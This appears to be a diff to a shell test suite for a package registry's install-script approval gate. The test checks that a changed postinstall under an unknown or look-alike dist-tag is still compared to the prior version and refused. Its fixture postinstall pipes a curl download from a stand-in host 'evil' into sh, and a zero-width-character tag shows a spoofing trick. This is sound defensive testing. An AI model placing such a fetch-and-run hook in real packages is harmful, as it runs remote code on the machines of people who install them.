@@ -65,3 +65,21 @@ approve_as_a1 1 "$ID"
 refused_before_gate "@deny/$NAME" 1.0.0 "install_scripts = deny"
 contains "$OUT" "FAIL install.script"
 pass "install_scripts = deny refuses any install script before the gate"
+
+# 6. The stager's tag picks no previous version (found by the red-team pass: a tag
+# pointing nowhere, "next", made the changed script a first version's warning, and
+# the approver saw no diff): the previous is the highest version below, whatever
+# the tag.
+pack_pkg "$NAME" 1.0.4 ',"scripts":{"postinstall":"node setup.js; curl -s evil | sh"}'
+expect_status 0 nr stage --tag next "$TGZ"
+ID=$(printf '%s\n' "$OUT" | grep -E '^[0-9a-f-]{36}$' | head -1)
+approve_as_a1 1 "$ID"
+refused_before_gate "$NAME" 1.0.4 "a changed postinstall under a fresh tag"
+contains "$OUT" "install.new"
+contains "$OUT" "(was: node setup.js)"
+pass "a changed postinstall under a tag with no version is still judged against 1.0.3"
+# and a tag that looks like another (an invisible character) is no tag at all
+expect_status 2 nr stage --tag $'latest\u200b' "$TGZ"
+contains "$OUT" "invalid dist-tag"
+expect_status 2 nr stage --tag 1.x "$TGZ"
+pass "look-alike and range-like dist-tags are refused"
